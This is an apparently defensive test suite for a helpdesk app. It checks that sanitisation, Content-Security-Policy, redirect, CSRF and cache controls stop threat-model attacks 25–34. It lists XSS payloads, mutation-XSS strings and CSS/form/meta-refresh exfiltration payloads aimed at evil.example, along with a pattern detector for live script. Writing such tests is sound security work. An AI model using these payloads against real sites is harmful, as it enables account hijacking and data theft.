// The attacks by HTML and through the browser (lines 25 to 29 and 32 to 34 of the threat model), with what a stranger
// wrote shown on every surface there is.
import { expect, test } from 'vitest'
import { ALL_ENDPOINTS } from '../../server/compose.ts'
import { conversationLink } from '../../server/tickets/index.ts'
import { newBrowser } from '../support/browser.ts'
import { newPost, open, type Post } from '../support/letters.ts'

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
]

/** What of a document would run: tags that do, handlers, and addresses that are code. Text and quoted values are not. */
function alive(html: string): string[] {
  const addresses = [...html.matchAll(/\s(?:href|src|action|formaction)="([^"]*)"/gi)].map((found) => found[1] ?? '')
  const bare = html.replaceAll(/="[^"]*"/g, '=""')
  return [
    ...addresses.filter((address) => /^\s*(?:data|javascript|vbscript):/i.test(address)),
    ...(html.match(/<script(?![^>]*\ssrc="\/)[^>]*>/gi) ?? []),
    ...(bare.match(/<[a-z][^<>]*[\s/]on\w+\s*=/gi) ?? []),
    ...(bare.match(/<(?:iframe(?![^>]*sandbox)|object|embed|svg\/onload|math)\b/gi) ?? []),
  ]
}

async function linkOf(post: Post, ticket_id: number): Promise<string> {
  const { requester_id } = await post.ticket(ticket_id)
  return await post.work(async ({ sealing, now }) =>
    conversationLink(sealing, { ticket_id, user_id: requester_id, now }),
  )
}

test('attack 25: nothing that people wrote becomes markup on a page, wherever it stands', async () => {
  const post = await newPost()
  for (const attack of ATTACKS) {
    const words = `=?utf-8?b?${Buffer.from(attack).toString('base64')}?=`
    const { ticket_id } = await post.receiveRaw(
      `From: ${words} <eve@evil.example>\r\nTo: ${post.support}\r\nSubject: ${words}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>${attack}</p>\r\n--x\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(attack)}\r\n\r\nx\r\n--x--\r\n`,
    )
    await post.call(post.admin, `PUT /api/v2/users/${post.agent.id}`, { user: { name: attack, signature: attack } })
    await post.call(post.agent, `POST /api/v2/tickets/${ticket_id}/replies`, { reply: { body: attack } })
    const link = await linkOf(post, ticket_id ?? 0)
    const comments = await post.conversation(ticket_id ?? 0)
    const pages = [
      `GET ${link}`,
      ...comments.flatMap(({ id }) => [
        `GET ${link}/messages/${id}`,
        `GET ${link}/messages/${id}?images=1&quoted=1`,
        `GET /api/v2/tickets/${ticket_id}/comments/${id}/frame?images=1&quoted=1`,
      ]),
    ]
    let shown = 0
    for (const page of pages) {
      const answer = await post.call(post.agent, page, undefined, { accept: 'text/html' })
      if (answer.status === 200) shown += 1
      expect([attack, page, alive(answer.text)]).toEqual([attack, page, []])
    }
    expect(shown).toBeGreaterThanOrEqual(3)
    // The API hands out HTML that was cleaned, for clients that show it.
    for (const comment of comments) expect([attack, alive(comment.html_body)]).toEqual([attack, []])
  }
})

test('attack 25: an error page repeats nothing of the request', async () => {
  const post = await newPost()
  for (const attack of ATTACKS) {
    for (const path of [
      `/requests/${encodeURIComponent(attack)}`,
      `/nothing/${encodeURIComponent(attack)}`,
      `/sign-in?return_to=${encodeURIComponent(attack)}`,
    ]) {
      const { text } = await post.call(null, `GET ${path}`, undefined, { accept: 'text/html' })
      expect([path, alive(text)]).toEqual([path, []])
    }
  }
})

const STYLED = [
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<p style="background:url(https://evil.example/b)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9">over everything</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x">',
  '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
  '<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>',
  '<form action="https://evil.example"><button>Log in</button></form>',
].join('\n')

test('attacks 26, 29 and 32: a message frame asks nobody for anything, and cannot run, submit, cover or be framed elsewhere', async () => {
  const post = await newPost()
  const ticket_id = await open(post, { from: 'eve@evil.example', html: STYLED })
  const [{ id }] = await post.conversation(ticket_id)
  const link = await linkOf(post, ticket_id)
  for (const path of [`/api/v2/tickets/${ticket_id}/comments/${id}/frame`, `${link}/messages/${id}`]) {
    for (const query of ['', '?images=1', '?images=1&quoted=1']) {
      const { status, text, headers } = await post.call(post.agent, `GET ${path}${query}`)
      expect([path, status, text.includes('evil.example')]).toEqual([path, 200, false])
      expect(text).not.toMatch(
        /<form|<style[^>]*>[^<]*input|<link|<base[^>]+href|http-equiv=.?refresh|position:\s*fixed/i,
      )
      const policy = String(headers['content-security-policy'])
      expect(policy).toMatch(/default-src 'none'/)
      expect(policy).toMatch(/frame-ancestors 'self'/)
      expect(policy).toMatch(/form-action 'none'/)
      expect(policy).toMatch(/\bsandbox\b/)
      expect(policy).not.toMatch(/allow-scripts|script-src|https?:|\*/)
      expect(headers['referrer-policy']).toBe('no-referrer')
    }
  }
})

test('attack 27: nested tags do not close into something new in what is shown', async () => {
  const post = await newPost()
  const html =
    '<scr<script>ipt>alert(1)</scr</script>ipt><<img src=x onerror=alert(1)//><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
  const ticket_id = await open(post, { from: 'eve@evil.example', html })
  const [{ id, html_body }] = await post.conversation(ticket_id)
  const frame = await post.call(post.agent, `GET /api/v2/tickets/${ticket_id}/comments/${id}/frame`)
  for (const shown of [html_body, frame.text]) expect(alive(shown)).toEqual([])
})

test('attack 28: what a stranger wrote runs in no mail to a customer', async () => {
  const post = await newPost({ auto_reply_enabled: true })
  const ticket_id = await open(post, {
    from: 'eve@people.example',
    subject: ATTACKS[0],
    name: '"<img src=x onerror=alert(1)>"',
    html: ATTACKS.join(''),
  })
  await post.call(post.admin, 'PUT /api/v2/account/settings', { settings: { mail: { signature: ATTACKS.join(' ') } } })
  await post.call(post.agent, `POST /api/v2/tickets/${ticket_id}/replies`, { reply: { body: ATTACKS.join('\n') } })
  await post.runJobs()
  const mails = await post.sent()
  expect(mails).toHaveLength(2)
  for (const { mail } of mails) expect(alive(String(mail.html))).toEqual([])
})

test('attack 29: every page and reply carries the strict policy', async () => {
  const post = await newPost()
  for (const path of ['/sign-in', '/agent', '/api/v2/users/me', '/nothing', '/requests/x']) {
    const { headers } = await post.call(null, `GET ${path}`, undefined, { accept: 'text/html' })
    const policy = String(headers['content-security-policy'])
    expect([path, /unsafe-inline|unsafe-eval|https?:/.test(policy)]).toEqual([path, false])
    expect([path, /default-src 'none'/.test(policy), /frame-ancestors 'none'/.test(policy)]).toEqual([path, true, true])
    expect([path, headers['x-content-type-options'], headers['x-frame-options']]).toEqual([path, 'nosniff', 'DENY'])
  }
})

test('attack 33: no link leads out of the desk, and no GET changes anything', async () => {
  const post = await newPost()
  const browser = await newBrowser(post)
  const away = [
    '//evil.example',
    'https://evil.example',
    '/\\evil.example',
    '/%5cevil.example/..//evil.example',
    'javascript:alert(1)',
  ]
  for (const return_to of away) {
    const signed_in = await browser.signIn(post.agent, { return_to })
    const target = new URL(String(signed_in.headers.location), `https://${post.host}`)
    expect([return_to, target.host]).toEqual([return_to, post.host])
    const again = await browser.ask('GET', `/sign-in?return_to=${encodeURIComponent(return_to)}`)
    expect([return_to, new URL(String(again.headers.location), `https://${post.host}`).host]).toEqual([
      return_to,
      post.host,
    ])
  }
  // The transaction of a GET is read-only; these alone write: that somebody read (a source, a secret, the audit as a
  // file), what DNS said, what a sign-in needs to go on (a challenge, a state), and when a directory asked last.
  const writing = ALL_ENDPOINTS.filter((one) => one.route.startsWith('GET') && one.read_only === false)
  const may = [
    /\/(?:source|raw|signing_secret|audit_logs\/export|mail_domains\/\{mail_domain_id\}\/check)$/,
    /^GET \/sign-in\/(?:second-factor|set-up\/passkey)$|^GET \/account\/(?:factors\/passkey|prove)$/,
    /^GET \/access\/(?:saml|oidc|social|jwt)(?:\/|$)/,
    /^GET \/scim\/v2\//,
  ]
  for (const { route } of writing)
    expect(
      may.some((pattern) => pattern.test(route)),
      route,
    ).toBe(true)
})

test('attack 33: a change asked for by another site does nothing', async () => {
  const post = await newPost()
  const ticket_id = await open(post, {})
  const browser = await newBrowser(post)
  await browser.signIn(post.agent)
  const attempts = [
    ['DELETE', `/api/v2/tickets/${ticket_id}`],
    ['PUT', `/api/v2/tickets/${ticket_id}`],
    ['POST', '/api/v2/api_tokens'],
    ['POST', `/sign-out`],
  ] as const
  for (const [method, url] of attempts) {
    const { statusCode } = await browser.ask(
      method,
      url,
      {},
      { 'content-type': 'application/json', origin: 'https://evil.example' },
    )
    expect([method, url, statusCode]).toEqual([method, url, 403])
  }
  expect((await post.ticket(ticket_id)).id).toBe(ticket_id)
})

test('attack 34: after signing out nothing is shown again, not from a cache either', async () => {
  const post = await newPost()
  const ticket_id = await open(post, { from: 'carla@people.example' })
  const browser = await newBrowser(post)
  await browser.signIn(post.agent)
  const url = `/api/v2/tickets/${ticket_id}/comments`
  const seen = await browser.ask('GET', url)
  expect([seen.statusCode, seen.headers['cache-control']]).toEqual([200, 'private, no-cache'])
  const etag = String(seen.headers.etag)
  expect((await browser.ask('GET', url, undefined, { 'if-none-match': etag })).statusCode).toBe(304)
  const session = [...browser.cookies]
  const left = await browser.signOut()
  expect(left.headers['clear-site-data']).toContain('"cache"')
  expect((await browser.ask('GET', url, undefined, { 'if-none-match': etag })).statusCode).toBe(401)
  for (const [name, value] of session) browser.cookies.set(name, value)
  expect((await browser.ask('GET', url, undefined, { 'if-none-match': etag })).statusCode).toBe(401)
  const link = await linkOf(post, ticket_id)
  for (const path of ['/sign-in', link]) {
    const page = await post.call(null, `GET ${path}`, undefined, { accept: 'text/html' })
    expect([path, page.status, page.headers['cache-control']]).toEqual([path, 200, expect.stringContaining('no-store')])
  }
})
